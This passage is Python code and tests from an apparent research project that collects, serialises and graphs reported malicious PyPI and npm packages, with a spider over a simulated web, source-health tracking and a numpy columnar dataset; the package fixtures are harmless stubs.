        "ecosystem": entry.package.ecosystem,
        "name": entry.package.name,
        "version": entry.package.version,
        "claims": [
            {
                "source": c.source,
                "report_day": c.report_day,
                "shares_artifact": c.shares_artifact,
            }
            for c in entry.claims
        ],
        "artifact_origin": entry.artifact_origin,
        "release_day": entry.release_day,
        "removal_day": entry.removal_day,
        "detection_day": entry.detection_day,
        "downloads": entry.downloads,
        "sha256": entry.sha256(),
        "campaign_id": entry.campaign_id,
        "actor": entry.actor,
        "archetype": entry.archetype,
        "behavior_key": entry.behavior_key,
    }
    if include_artifact and entry.artifact is not None:
        record["artifact"] = entry.artifact.to_dict()
    return record


def entry_from_dict(raw: dict) -> DatasetEntry:
    entry = DatasetEntry(
        package=PackageId(raw["ecosystem"], raw["name"], raw["version"]),
        claims=[
            SourceClaim(
                source=c["source"],
                report_day=c["report_day"],
                shares_artifact=c["shares_artifact"],
            )
            for c in raw.get("claims", [])
        ],
        artifact_origin=raw.get("artifact_origin"),
        release_day=raw.get("release_day"),
        removal_day=raw.get("removal_day"),
        detection_day=raw.get("detection_day"),
        downloads=raw.get("downloads", 0),
        campaign_id=raw.get("campaign_id"),
        actor=raw.get("actor"),
        archetype=raw.get("archetype"),
        behavior_key=raw.get("behavior_key"),
    )
    if "artifact" in raw:
        entry.artifact = PackageArtifact.from_dict(raw["artifact"])
    return entry


def report_to_dict(report: CollectedReport) -> dict:
    return {
        "report_id": report.report_id,
        "url": report.url,
        "site": report.site,
        "category": report.category,
        "source": report.source,
        "publish_day": report.publish_day,
        "packages": [
            {"ecosystem": p.ecosystem, "name": p.name, "version": p.version}
            for p in report.packages
        ],
        "unresolved": [list(item) for item in report.unresolved],
        "actor_alias": report.actor_alias,
    }


def report_from_dict(raw: dict) -> CollectedReport:
    return CollectedReport(
        report_id=raw["report_id"],
        url=raw["url"],
        site=raw["site"],
        category=raw["category"],
        source=raw["source"],
        publish_day=raw.get("publish_day"),
        packages=[
            PackageId(p["ecosystem"], p["name"], p["version"])
            for p in raw.get("packages", [])
        ],
        unresolved=[tuple(item) for item in raw.get("unresolved", [])],
        actor_alias=raw.get("actor_alias"),
    )


def collection_stats_to_dict(stats) -> dict:
    """Serialise a :class:`repro.collection.pipeline.CollectionStats`."""
    return {
        "dataset_records": stats.dataset_records,
        "crawl": {
            "sites_visited": stats.crawl.sites_visited,
            "pages_fetched": stats.crawl.pages_fetched,
            "pages_filtered_out": stats.crawl.pages_filtered_out,
            "reports_extracted": stats.crawl.reports_extracted,
            "unusable_reports": stats.crawl.unusable_reports,
            "pages_unfetchable": stats.crawl.pages_unfetchable,
        },
        "crawled_records": stats.crawled_records,
        "sns_records": stats.sns_records,
        "false_positives_dropped": stats.false_positives_dropped,
        "unknown_mentions": stats.unknown_mentions,
        "merged_entries": stats.merged_entries,
        "recovery": {
            "attempted": stats.recovery.attempted,
            "recovered": stats.recovery.recovered,
            "misses": {
                cause.value: count
                for cause, count in stats.recovery.misses.items()
            },
            "skipped": stats.recovery.skipped,
        },
        "degraded": stats.degraded,
        "degradation": (
            stats.degradation.to_dict()
            if stats.degradation is not None
            else None
        ),
        "source_health": dict(stats.source_health),
    }


def collection_stats_from_dict(raw: dict):
    """Inverse of :func:`collection_stats_to_dict`."""
    from repro.collection.pipeline import CollectionStats

    from repro.reliability.report import DegradationReport

    crawl_raw = raw.get("crawl", {})
    recovery_raw = raw.get("recovery", {})
    degradation_raw = raw.get("degradation")
    return CollectionStats(
        dataset_records=raw.get("dataset_records", 0),
        crawl=CrawlStats(
            sites_visited=crawl_raw.get("sites_visited", 0),
            pages_fetched=crawl_raw.get("pages_fetched", 0),
            pages_filtered_out=crawl_raw.get("pages_filtered_out", 0),
            reports_extracted=crawl_raw.get("reports_extracted", 0),
            unusable_reports=crawl_raw.get("unusable_reports", 0),
            pages_unfetchable=crawl_raw.get("pages_unfetchable", 0),
        ),
        crawled_records=raw.get("crawled_records", 0),
        sns_records=raw.get("sns_records", 0),
        false_positives_dropped=raw.get("false_positives_dropped", 0),
        unknown_mentions=raw.get("unknown_mentions", 0),
        merged_entries=raw.get("merged_entries", 0),
        recovery=RecoveryStats(
            attempted=recovery_raw.get("attempted", 0),
            recovered=recovery_raw.get("recovered", 0),
            misses={
                MissCause(cause): count
                for cause, count in recovery_raw.get("misses", {}).items()
            },
            skipped=recovery_raw.get("skipped", 0),
        ),
        degraded=raw.get("degraded", False),
        degradation=(
            DegradationReport.from_dict(degradation_raw)
            if degradation_raw is not None
            else None
        ),
        source_health=dict(raw.get("source_health", {})),
    )


def save_dataset(
    dataset: MalwareDataset,
    directory: PathLike,
    include_artifacts: bool = True,
) -> Path:
    """Write entries.jsonl + reports.jsonl under ``directory``."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    write_jsonl(
        directory / "entries.jsonl",
        (entry_to_dict(e, include_artifacts) for e in dataset.entries),
    )
    write_jsonl(
        directory / "reports.jsonl",
        (report_to_dict(r) for r in dataset.reports),
    )
    return directory


def load_dataset(directory: PathLike) -> MalwareDataset:
    """Load a dataset previously written by :func:`save_dataset`."""
    directory = Path(directory)
    entries = [entry_from_dict(raw) for raw in read_jsonl(directory / "entries.jsonl")]
    reports = [
        report_from_dict(raw) for raw in read_jsonl(directory / "reports.jsonl")
    ]
    return MalwareDataset(entries=entries, reports=reports)
