"""Edge builders for the four Section III-A relationships."""

from __future__ import annotations

import pytest

from repro.core.edges import (
    add_dataset_nodes,
    build_coexisting_edges,
    build_dependency_edges,
    build_duplicated_edges,
    build_similar_edges,
    node_id,
)
from repro.core.graph import EdgeType, PropertyGraph
from repro.core.similarity import SimilarityConfig

from tests.core.helpers import dataset, entry, report


def _graph_for(ds):
    graph = PropertyGraph()
    add_dataset_nodes(graph, ds)
    return graph


# -- nodes --------------------------------------------------------------------

def test_nodes_carry_paper_attributes():
    ds = dataset([entry("evil-pkg", sources=("snyk", "phylum"))])
    graph = _graph_for(ds)
    attrs = graph.node("pypi:evil-pkg@1.0")
    assert attrs["name"] == "evil-pkg"
    assert attrs["version"] == "1.0"
    assert attrs["ecosystem"] == "pypi"
    assert attrs["sources"] == ["phylum", "snyk"]
    assert len(attrs["sha256"]) == 64
    assert attrs["path"] == "source:test"
    assert attrs["release_day"] == 10


def test_unavailable_entry_node_has_no_hash():
    ds = dataset([entry("gone", code=None)])
    attrs = _graph_for(ds).node("pypi:gone@1.0")
    assert attrs["sha256"] is None
    assert attrs["path"] is None


def test_node_id_format():
    ds = dataset([entry("a", version="2.1", ecosystem="npm")])
    assert node_id(ds.entries[0].package) == "npm:a@2.1"


# -- duplicated ------------------------------------------------------------------

def test_duplicated_edges_same_code_different_name():
    """The 'brock-loader' / 'soltalabs-ramda-extra' case."""
    ds = dataset(
        [
            entry("brock-loader", "1.9.9", ecosystem="npm"),
            entry("soltalabs-ramda-extra", "1.99.99", ecosystem="npm"),
            entry("unrelated", code="def other():\n    return 2\n"),
        ]
    )
    graph = _graph_for(ds)
    groups = build_duplicated_edges(graph, ds)
    assert len(groups) == 1
    assert {e.package.name for e in groups[0]} == {
        "brock-loader", "soltalabs-ramda-extra",
    }
    assert graph.has_edge(
        "npm:brock-loader@1.9.9",
        "npm:soltalabs-ramda-extra@1.99.99",
        EdgeType.DUPLICATED,
    )


def test_duplicated_ignores_unavailable_entries():
    ds = dataset([entry("a", code=None), entry("b", code=None)])
    graph = _graph_for(ds)
    assert build_duplicated_edges(graph, ds) == []


def test_duplicated_groups_can_span_ecosystems():
    ds = dataset([entry("a", ecosystem="pypi"), entry("b", ecosystem="npm")])
    graph = _graph_for(ds)
    groups = build_duplicated_edges(graph, ds)
    assert len(groups) == 1


# -- dependency ------------------------------------------------------------------

def test_dependency_edge_paper_example():
    """'loglib-modules' and 'pygrata-utils' depend on 'pygrata'."""
    ds = dataset(
        [
            entry("pygrata", code="def steal():\n    return 'aws'\n"),
            entry(
                "loglib-modules",
                code="import logging\n",
                dependencies=("pygrata", "requests"),
            ),
            entry(
                "pygrata-utils",
                code="import json\n",
                dependencies=("pygrata",),
            ),
        ]
    )
    graph = _graph_for(ds)
    edges = build_dependency_edges(graph, ds)
    pairs = {(src.package.name, dst.package.name) for src, dst in edges}
    assert pairs == {
        ("loglib-modules", "pygrata"),
        ("pygrata-utils", "pygrata"),
    }
    # 'requests' is a legitimate package and must be discarded
    assert graph.stats(EdgeType.DEPENDENCY).nodes == 3


def test_dependency_requires_same_ecosystem():
    ds = dataset(
        [
            entry("lib", ecosystem="npm"),
            entry("front", ecosystem="pypi", dependencies=("lib",)),
        ]
    )
    edges = build_dependency_edges(_graph_for(ds), ds)
    assert edges == []


def test_dependency_links_all_versions_of_the_name():
    ds = dataset(
        [
            entry("lib", version="1.0", code="A = 1\n"),
            entry("lib", version="2.0", code="A = 2\n"),
            entry("front", dependencies=("lib",), code="import lib\n"),
        ]
    )
    edges = build_dependency_edges(_graph_for(ds), ds)
    assert len(edges) == 2


def test_dependency_self_reference_skipped():
    ds = dataset([entry("selfy", dependencies=("selfy",))])
    edges = build_dependency_edges(_graph_for(ds), ds)
    assert edges == []


# -- similar ------------------------------------------------------------------

def test_similar_edges_only_for_entries_with_code():
    ds = dataset(
        [
            entry("s1", code="def f():\n    return 1\n"),
            entry("s2", code="def f():\n    return 1\n"),
            entry("nocode", code=None),
        ]
    )
    graph = _graph_for(ds)
    result = build_similar_edges(graph, ds, SimilarityConfig(seed=0))
    assert len(result.embedded_entries) == 2
    assert len(result.groups) == 1
    assert {e.package.name for e in result.groups[0]} == {"s1", "s2"}
    assert graph.has_edge("pypi:s1@1.0", "pypi:s2@1.0", EdgeType.SIMILAR)


def test_similar_edges_empty_dataset():
    ds = dataset([entry("nocode", code=None)])
    result = build_similar_edges(_graph_for(ds), ds)
    assert result.groups == []
    assert result.embedded_entries == []


# -- coexisting ------------------------------------------------------------------

def test_coexisting_clique_per_report():
    """The 'Lolip0p' report: Colorslib, httpslib and libhttps co-exist."""
    entries = [
        entry("Colorslib", code="A = 1\n"),
        entry("httpslib", code="B = 2\n"),
        entry("libhttps", code="C = 3\n"),
    ]
    ds = dataset(
        entries,
        [report("r1", [e.package for e in entries])],
    )
    graph = _graph_for(ds)
    groups = build_coexisting_edges(graph, ds)
    assert len(groups) == 1
    stats = graph.stats(EdgeType.COEXISTING)
    assert stats.nodes == 3
    assert stats.directed_edges == 6


def test_coexisting_skips_single_package_reports():
    e = entry("solo")
    ds = dataset([e], [report("r1", [e.package])])
    assert build_coexisting_edges(_graph_for(ds), ds) == []


def test_coexisting_ignores_unknown_packages_in_report():
    from repro.ecosystem.package import PackageId

    e1, e2 = entry("a", code="A = 1\n"), entry("b", code="B = 2\n")
    ghost = PackageId("pypi", "ghost", "9.9")
    ds = dataset([e1, e2], [report("r1", [e1.package, e2.package, ghost])])
    groups = build_coexisting_edges(_graph_for(ds), ds)
    assert len(groups) == 1
    assert len(groups[0]) == 2


def test_coexisting_deduplicates_repeated_mentions():
    e1, e2 = entry("a", code="A = 1\n"), entry("b", code="B = 2\n")
    ds = dataset(
        [e1, e2],
        [report("r1", [e1.package, e1.package, e2.package])],
    )
    groups = build_coexisting_edges(_graph_for(ds), ds)
    assert len(groups[0]) == 2
