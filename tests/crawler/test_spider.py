"""Spider over the simulated web: keyword filter, extraction, stats."""

from __future__ import annotations

import pytest

from repro.crawler.html import render_page, tag, text
from repro.crawler.spider import Spider
from repro.errors import CrawlError
from repro.intel.web import SimulatedWeb, WebPage


def _page(url: str, site: str, html: str, is_report: bool = False) -> WebPage:
    return WebPage(url=url, html=html, site=site, is_report=is_report)


def _report_html(pins=("bad-pkg==1.0.0",)) -> str:
    items = [tag("li", tag("code", text(pin))) for pin in pins]
    return render_page(
        "Malicious packages in the wild",
        [
            tag("p", text("We found malware in the PYPI registry. Published 2023-02-03.")),
            tag("ul", items, class_="package-list"),
        ],
    )


def _noise_html() -> str:
    return render_page("Hiring!", [tag("p", text("Join our team of engineers."))])


@pytest.fixture
def web() -> SimulatedWeb:
    web = SimulatedWeb()
    web.add(_page("https://blog.a/r1", "blog.a", _report_html(), is_report=True))
    web.add(_page("https://blog.a/noise", "blog.a", _noise_html()))
    web.add(_page("https://blog.b/r2", "blog.b", _report_html(("other==2.0",)), is_report=True))
    return web


def test_crawl_site_filters_noise(web):
    spider = Spider(web)
    reports = spider.crawl_site("blog.a")
    assert len(reports) == 1
    assert reports[0].packages == [("bad-pkg", "1.0.0")]
    assert reports[0].site == "blog.a"


def test_crawl_stats(web):
    spider = Spider(web)
    result = spider.crawl(["blog.a", "blog.b"])
    assert result.stats.sites_visited == 2
    assert result.stats.pages_fetched == 3
    assert result.stats.pages_filtered_out == 1
    assert result.stats.reports_extracted == 2
    assert result.stats.unusable_reports == 0


def test_crawl_counts_unusable_reports(web):
    # a page that passes the keyword filter but yields no packages
    web.add(
        _page(
            "https://blog.a/teaser",
            "blog.a",
            render_page("T", [tag("p", text("malware is on the rise in NPM "))]),
        )
    )
    result = Spider(web).crawl(["blog.a"])
    assert result.stats.unusable_reports == 1


def test_crawl_unknown_site_raises(web):
    # only a missing site index is fatal now
    with pytest.raises(CrawlError):
        Spider(web).crawl_site("nowhere.example")


def test_crawl_unfetchable_url_is_counted_not_fatal():
    web = SimulatedWeb()
    web.add(_page("https://x/a", "x", _report_html()))
    web.add(_page("https://x/b", "x", _report_html(("other==2.0",))))
    del web.pages["https://x/a"]  # index still lists the URL but fetch fails
    spider = Spider(web)
    from repro.crawler.spider import CrawlStats

    stats = CrawlStats()
    reports = spider.crawl_site("x", stats)
    assert stats.pages_unfetchable == 1
    assert stats.pages_fetched == 1
    assert [r.packages for r in reports] == [[("other", "2.0")]]


def test_max_pages_per_site(web):
    spider = Spider(web, max_pages_per_site=1)
    result = spider.crawl(["blog.a"])
    assert result.stats.pages_fetched == 1


def test_discover_sites(web):
    assert Spider(web).discover_sites() == ["blog.a", "blog.b"]


def test_world_crawl_recovers_most_reports(small_world):
    """Against the fully simulated web, the spider finds usable reports
    on nearly every report page and skips the noise."""
    spider = Spider(small_world.web)
    result = spider.crawl(spider.discover_sites())
    true_reports = sum(1 for p in small_world.web.pages.values() if p.is_report)
    assert result.stats.reports_extracted >= true_reports * 0.9
    assert result.stats.pages_filtered_out > 0
