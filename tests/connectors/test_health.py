"""SourceHealth: healthy -> degraded -> dark -> recovering transitions."""

from __future__ import annotations

import pytest

from repro.connectors import (
    HEALTH_DARK,
    HEALTH_DEGRADED,
    HEALTH_HEALTHY,
    HEALTH_RECOVERING,
    HEALTH_RELIABILITY_FACTOR,
    HEALTH_STATES,
    SourceHealth,
)


def make(**kwargs) -> SourceHealth:
    return SourceHealth("src", **kwargs)


def test_starts_healthy_with_no_transitions():
    health = make()
    assert health.state == HEALTH_HEALTHY
    assert health.transitions == []
    assert health.reliability_factor == 1.0


def test_first_failure_degrades_then_dark_at_threshold():
    health = make(degraded_after=1, dark_after=3)
    assert health.record_failure(day=10) == HEALTH_DEGRADED
    assert health.record_failure(day=11) == HEALTH_DEGRADED
    assert health.record_failure(day=12) == HEALTH_DARK
    assert health.transitions == [
        (10, HEALTH_HEALTHY, HEALTH_DEGRADED),
        (12, HEALTH_DEGRADED, HEALTH_DARK),
    ]


def test_recovery_needs_consecutive_clean_pulls():
    health = make(recover_after=2)
    health.record_outage(day=5)
    assert health.state == HEALTH_DARK
    assert health.record_success(day=6) == HEALTH_RECOVERING
    assert health.record_success(day=7) == HEALTH_HEALTHY
    assert health.transitions == [
        (5, HEALTH_HEALTHY, HEALTH_DARK),
        (6, HEALTH_DARK, HEALTH_RECOVERING),
        (7, HEALTH_RECOVERING, HEALTH_HEALTHY),
    ]


def test_single_clean_pull_heals_when_recover_after_is_one():
    health = make(recover_after=1)
    health.record_outage(day=1)
    assert health.record_success(day=2) == HEALTH_HEALTHY


def test_relapse_during_recovery_goes_straight_back_to_dark():
    health = make(dark_after=3, recover_after=2)
    health.record_outage(day=1)
    health.record_success(day=2)
    assert health.state == HEALTH_RECOVERING
    # One failure suffices, whatever the consecutive count says.
    assert health.record_failure(day=3) == HEALTH_DARK


def test_outage_jumps_to_dark_regardless_of_failure_count():
    health = make(dark_after=5)
    assert health.record_outage(day=1) == HEALTH_DARK
    assert health.consecutive_failures >= 5


def test_quarantined_records_degrade_a_successful_pull():
    health = make()
    assert health.record_success(day=1, quarantined=4) == HEALTH_DEGRADED
    assert health.quarantined_total == 4
    # A clean pull heals from quarantine-degraded directly.
    assert health.record_success(day=2) == HEALTH_HEALTHY


def test_quarantine_interrupts_a_recovery_streak():
    health = make(recover_after=2)
    health.record_outage(day=1)
    health.record_success(day=2)
    assert health.state == HEALTH_RECOVERING
    health.record_success(day=3, quarantined=1)
    assert health.state == HEALTH_DEGRADED
    assert health.recovery_streak == 0


def test_partial_emission_degrades():
    health = make()
    assert health.record_partial(day=4) == HEALTH_DEGRADED
    assert health.last_success_day == 4  # partial data is still data


def test_staleness_degrades_then_darkens_on_the_clock():
    health = make(stale_after=10)
    health.record_success(day=0)
    assert health.check_staleness(5) == HEALTH_HEALTHY
    assert health.check_staleness(11) == HEALTH_DEGRADED
    assert health.check_staleness(21) == HEALTH_DARK


def test_staleness_is_inert_without_a_budget_or_a_success():
    health = make()  # stale_after=None
    health.record_success(day=0)
    assert health.check_staleness(10_000) == HEALTH_HEALTHY
    budgeted = make(stale_after=1)
    assert budgeted.check_staleness(10_000) == HEALTH_HEALTHY  # never pulled


def test_reliability_factor_covers_every_state():
    assert set(HEALTH_RELIABILITY_FACTOR) == set(HEALTH_STATES)
    assert HEALTH_RELIABILITY_FACTOR[HEALTH_HEALTHY] == 1.0
    assert (
        HEALTH_RELIABILITY_FACTOR[HEALTH_DARK]
        < HEALTH_RELIABILITY_FACTOR[HEALTH_DEGRADED]
        < HEALTH_RELIABILITY_FACTOR[HEALTH_RECOVERING]
        < HEALTH_RELIABILITY_FACTOR[HEALTH_HEALTHY]
    )


def test_to_dict_is_json_safe_and_tracks_state():
    health = make()
    health.record_failure(day=3)
    snapshot = health.to_dict()
    assert snapshot == {
        "state": HEALTH_DEGRADED,
        "consecutive_failures": 1,
        "recovery_streak": 0,
        "quarantined_total": 0,
        "last_success_day": None,
        "last_attempt_day": 3,
        "reliability_factor": HEALTH_RELIABILITY_FACTOR[HEALTH_DEGRADED],
    }


def test_threshold_validation():
    with pytest.raises(ValueError):
        make(degraded_after=0)
    with pytest.raises(ValueError):
        make(degraded_after=3, dark_after=2)
    with pytest.raises(ValueError):
        make(recover_after=0)
