"""Columnar tables for the collected corpus.

A :class:`ColumnarDataset` holds the same information as a
:class:`~repro.collection.records.MalwareDataset` — entries, claims,
artifacts, reports — but as numpy structured arrays over one shared
:class:`~repro.core.columnar.pool.StringPool` instead of a Python object
per record. Variable-length fields (claims, files, keywords,
dependencies, scripts, report package lists) are CSR encoded: an
``offsets`` array of length ``n + 1`` plus flat value arrays, so row
``i`` owns slots ``offsets[i]:offsets[i + 1]``.

Row order is whatever the source had — building from a dataset keeps
entry/report order, the streaming merge emits key-sorted rows. Hydration
back to dataclasses goes through
:mod:`repro.core.columnar.facade`; this module only promises that
:meth:`ColumnarDataset.entry_at` / :meth:`report_at` reproduce the
original records byte-identically under the canonical serialisation in
:mod:`repro.io.datasets`.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

import numpy as np

from repro.collection.records import (
    CollectedReport,
    DatasetEntry,
    MalwareDataset,
    SourceClaim,
)
from repro.core.columnar.pool import NULL, StringPool
from repro.ecosystem.package import PackageArtifact, PackageId, PackageMetadata

#: fixed-width per-package columns; every string field is a pool id
PACKAGE_DTYPE = np.dtype(
    [
        ("eco", "i8"),
        ("name", "i8"),
        ("version", "i8"),
        ("origin", "i8"),
        ("release_day", "i8"),
        ("has_release", "?"),
        ("removal_day", "i8"),
        ("has_removal", "?"),
        ("detection_day", "i8"),
        ("has_detection", "?"),
        ("downloads", "i8"),
        ("campaign", "i8"),
        ("actor", "i8"),
        ("archetype", "i8"),
        ("behavior", "i8"),
        ("has_artifact", "?"),
        ("sha", "i8"),
        ("meta_description", "i8"),
        ("meta_author", "i8"),
        ("meta_homepage", "i8"),
    ]
)

REPORT_DTYPE = np.dtype(
    [
        ("report_id", "i8"),
        ("url", "i8"),
        ("site", "i8"),
        ("category", "i8"),
        ("source", "i8"),
        ("publish_day", "i8"),
        ("has_publish", "?"),
        ("actor_alias", "i8"),
    ]
)


def _offsets(counts: Sequence[int]) -> np.ndarray:
    out = np.zeros(len(counts) + 1, dtype=np.int64)
    if len(counts):
        np.cumsum(counts, out=out[1:])
    return out


def csr_take(
    offsets: np.ndarray, rows: np.ndarray, *values: np.ndarray
) -> Tuple[np.ndarray, ...]:
    """Gather CSR rows: new offsets + each value array restricted to
    ``rows`` (in ``rows`` order). The repeat/arange trick keeps this a
    handful of vector ops regardless of row count."""
    rows = np.asarray(rows, dtype=np.int64)
    starts = offsets[rows]
    counts = offsets[rows + 1] - starts
    new_offsets = _offsets(counts)
    total = int(new_offsets[-1])
    idx = np.repeat(starts - new_offsets[:-1], counts) + np.arange(
        total, dtype=np.int64
    )
    return (new_offsets,) + tuple(np.asarray(v)[idx] for v in values)


def code_sha256(files: Iterable[Tuple[str, str]]) -> str:
    """SHA256 over code files, identical to
    :meth:`PackageArtifact.sha256` (path\\0source\\0 over sorted ``.py``
    paths) without constructing an artifact."""
    digest = hashlib.sha256()
    for path, source in sorted(files):
        if path.endswith(".py"):
            digest.update(path.encode("utf-8"))
            digest.update(b"\x00")
            digest.update(source.encode("utf-8"))
            digest.update(b"\x00")
    return digest.hexdigest()


class ColumnarBuilder:
    """Accumulates rows in Python lists, freezes to a ColumnarDataset.

    One builder = one output table; entries and reports are appended in
    the order they should occupy rows.
    """

    def __init__(self, pool: Optional[StringPool] = None) -> None:
        self.pool = pool if pool is not None else StringPool()
        self._rows: List[tuple] = []
        self._claim_counts: List[int] = []
        self._claim_source: List[int] = []
        self._claim_day: List[int] = []
        self._claim_shares: List[bool] = []
        self._file_counts: List[int] = []
        self._file_path: List[int] = []
        self._file_text: List[int] = []
        self._kw_counts: List[int] = []
        self._kw: List[int] = []
        self._dep_counts: List[int] = []
        self._dep: List[int] = []
        self._script_counts: List[int] = []
        self._script_key: List[int] = []
        self._script_val: List[int] = []
        self._report_rows: List[tuple] = []
        self._rpkg_counts: List[int] = []
        self._rpkg_eco: List[int] = []
        self._rpkg_name: List[int] = []
        self._rpkg_ver: List[int] = []
        self._unres_counts: List[int] = []
        self._unres_a: List[int] = []
        self._unres_b: List[int] = []
        # sha memo for raw-record ingest, keyed by the interned file ids
        self._sha_by_files: Dict[Tuple[int, ...], int] = {}

    # -- entries -----------------------------------------------------------
    def add_entry(self, entry: DatasetEntry) -> None:
        artifact = entry.artifact
        self.add_record(
            ecosystem=entry.package.ecosystem,
            name=entry.package.name,
            version=entry.package.version,
            claims=[(c.source, c.report_day, c.shares_artifact) for c in entry.claims],
            artifact_origin=entry.artifact_origin,
            release_day=entry.release_day,
            removal_day=entry.removal_day,
            detection_day=entry.detection_day,
            downloads=entry.downloads,
            campaign_id=entry.campaign_id,
            actor=entry.actor,
            archetype=entry.archetype,
            behavior_key=entry.behavior_key,
            files=sorted(artifact.files.items()) if artifact is not None else None,
            description=artifact.metadata.description if artifact else "",
            author=artifact.metadata.author if artifact else "",
            homepage=artifact.metadata.homepage if artifact else "",
            keywords=artifact.metadata.keywords if artifact else (),
            dependencies=artifact.metadata.dependencies if artifact else (),
            scripts=artifact.metadata.scripts if artifact else {},
            sha256=entry.sha256(),
        )

    def add_record(
        self,
        *,
        ecosystem: str,
        name: str,
        version: str,
        claims: Sequence[Tuple[str, int, bool]],
        artifact_origin: Optional[str] = None,
        release_day: Optional[int] = None,
        removal_day: Optional[int] = None,
        detection_day: Optional[int] = None,
        downloads: int = 0,
        campaign_id: Optional[str] = None,
        actor: Optional[str] = None,
        archetype: Optional[str] = None,
        behavior_key: Optional[str] = None,
        files: Optional[Sequence[Tuple[str, str]]] = None,
        description: str = "",
        author: str = "",
        homepage: str = "",
        keywords: Sequence[str] = (),
        dependencies: Sequence[str] = (),
        scripts: Optional[Dict[str, str]] = None,
        sha256: Optional[str] = None,
    ) -> None:
        """Append one package row from plain values (no dataclasses)."""
        pool = self.pool
        has_artifact = files is not None
        file_ids: Tuple[int, ...] = ()
        if has_artifact:
            file_ids = tuple(
                fid for path, text in files for fid in (pool.intern(path), pool.intern(text))
            )
            self._file_path.extend(file_ids[0::2])
            self._file_text.extend(file_ids[1::2])
            self._file_counts.append(len(files))
            if sha256 is None:
                sha_id = self._sha_by_files.get(file_ids)
                if sha_id is None:
                    sha_id = pool.intern(code_sha256(files))
                    self._sha_by_files[file_ids] = sha_id
            else:
                sha_id = pool.intern(sha256)
        else:
            self._file_counts.append(0)
            sha_id = NULL
        self._rows.append(
            (
                pool.intern(ecosystem),
                pool.intern(name),
                pool.intern(version),
                pool.intern(artifact_origin),
                release_day if release_day is not None else 0,
                release_day is not None,
                removal_day if removal_day is not None else 0,
                removal_day is not None,
                detection_day if detection_day is not None else 0,
                detection_day is not None,
                downloads,
                pool.intern(campaign_id),
                pool.intern(actor),
                pool.intern(archetype),
                pool.intern(behavior_key),
                has_artifact,
                sha_id,
                pool.intern(description) if has_artifact else NULL,
                pool.intern(author) if has_artifact else NULL,
                pool.intern(homepage) if has_artifact else NULL,
            )
        )
        self._claim_counts.append(len(claims))
        for source, day, shares in claims:
            self._claim_source.append(pool.intern(source))
            self._claim_day.append(day)
            self._claim_shares.append(shares)
        self._kw_counts.append(len(keywords) if has_artifact else 0)
        if has_artifact:
            self._kw.extend(pool.intern(k) for k in keywords)
        self._dep_counts.append(len(dependencies) if has_artifact else 0)
        if has_artifact:
            self._dep.extend(pool.intern(d) for d in dependencies)
        script_items = list((scripts or {}).items()) if has_artifact else []
        self._script_counts.append(len(script_items))
        for key, val in script_items:
            self._script_key.append(pool.intern(key))
            self._script_val.append(pool.intern(val))

    # -- reports -----------------------------------------------------------
    def add_report(self, report: CollectedReport) -> None:
        self.add_report_record(
            report_id=report.report_id,
            url=report.url,
            site=report.site,
            category=report.category,
            source=report.source,
            publish_day=report.publish_day,
            packages=[(p.ecosystem, p.name, p.version) for p in report.packages],
            unresolved=report.unresolved,
            actor_alias=report.actor_alias,
        )

    def add_report_record(
        self,
        *,
        report_id: str,
        url: str,
        site: str,
        category: str,
        source: str,
        publish_day: Optional[int],
        packages: Sequence[Tuple[str, str, str]],
        unresolved: Sequence[Tuple[str, str]],
        actor_alias: Optional[str] = None,
    ) -> None:
        pool = self.pool
        self._report_rows.append(
            (
                pool.intern(report_id),
                pool.intern(url),
                pool.intern(site),
                pool.intern(category),
                pool.intern(source),
                publish_day if publish_day is not None else 0,
                publish_day is not None,
                pool.intern(actor_alias),
            )
        )
        self._rpkg_counts.append(len(packages))
        for eco, name, ver in packages:
            self._rpkg_eco.append(pool.intern(eco))
            self._rpkg_name.append(pool.intern(name))
            self._rpkg_ver.append(pool.intern(ver))
        self._unres_counts.append(len(unresolved))
        for a, b in unresolved:
            self._unres_a.append(pool.intern(a))
            self._unres_b.append(pool.intern(b))

    # -- freeze ------------------------------------------------------------
    def build(self) -> "ColumnarDataset":
        i8 = np.int64
        return ColumnarDataset(
            pool=self.pool,
            packages=np.array(self._rows, dtype=PACKAGE_DTYPE),
            claim_offsets=_offsets(self._claim_counts),
            claim_source=np.asarray(self._claim_source, dtype=i8),
            claim_day=np.asarray(self._claim_day, dtype=i8),
            claim_shares=np.asarray(self._claim_shares, dtype=bool),
            file_offsets=_offsets(self._file_counts),
            file_path=np.asarray(self._file_path, dtype=i8),
            file_text=np.asarray(self._file_text, dtype=i8),
            keyword_offsets=_offsets(self._kw_counts),
            keyword=np.asarray(self._kw, dtype=i8),
            dep_offsets=_offsets(self._dep_counts),
            dep=np.asarray(self._dep, dtype=i8),
            script_offsets=_offsets(self._script_counts),
            script_key=np.asarray(self._script_key, dtype=i8),
            script_val=np.asarray(self._script_val, dtype=i8),
            reports=np.array(self._report_rows, dtype=REPORT_DTYPE),
            rpkg_offsets=_offsets(self._rpkg_counts),
            rpkg_eco=np.asarray(self._rpkg_eco, dtype=i8),
            rpkg_name=np.asarray(self._rpkg_name, dtype=i8),
            rpkg_ver=np.asarray(self._rpkg_ver, dtype=i8),
            unresolved_offsets=_offsets(self._unres_counts),
            unresolved_a=np.asarray(self._unres_a, dtype=i8),
            unresolved_b=np.asarray(self._unres_b, dtype=i8),
        )


@dataclass
class ColumnarDataset:
    """The corpus as flat arrays over one string pool. Immutable by
    convention: merge/take produce new instances."""

    pool: StringPool
    packages: np.ndarray  # PACKAGE_DTYPE
    claim_offsets: np.ndarray
    claim_source: np.ndarray
    claim_day: np.ndarray
    claim_shares: np.ndarray
    file_offsets: np.ndarray
    file_path: np.ndarray
    file_text: np.ndarray
    keyword_offsets: np.ndarray
    keyword: np.ndarray
    dep_offsets: np.ndarray
    dep: np.ndarray
    script_offsets: np.ndarray
    script_key: np.ndarray
    script_val: np.ndarray
    reports: np.ndarray  # REPORT_DTYPE
    rpkg_offsets: np.ndarray
    rpkg_eco: np.ndarray
    rpkg_name: np.ndarray
    rpkg_ver: np.ndarray
    unresolved_offsets: np.ndarray
    unresolved_a: np.ndarray
    unresolved_b: np.ndarray

    # -- construction ------------------------------------------------------
    @classmethod
    def from_dataset(cls, dataset: MalwareDataset) -> "ColumnarDataset":
        builder = ColumnarBuilder()
        for entry in dataset.entries:
            builder.add_entry(entry)
        for report in dataset.reports:
            builder.add_report(report)
        return builder.build()

    # -- shape -------------------------------------------------------------
    @property
    def n_packages(self) -> int:
        return len(self.packages)

    @property
    def n_reports(self) -> int:
        return len(self.reports)

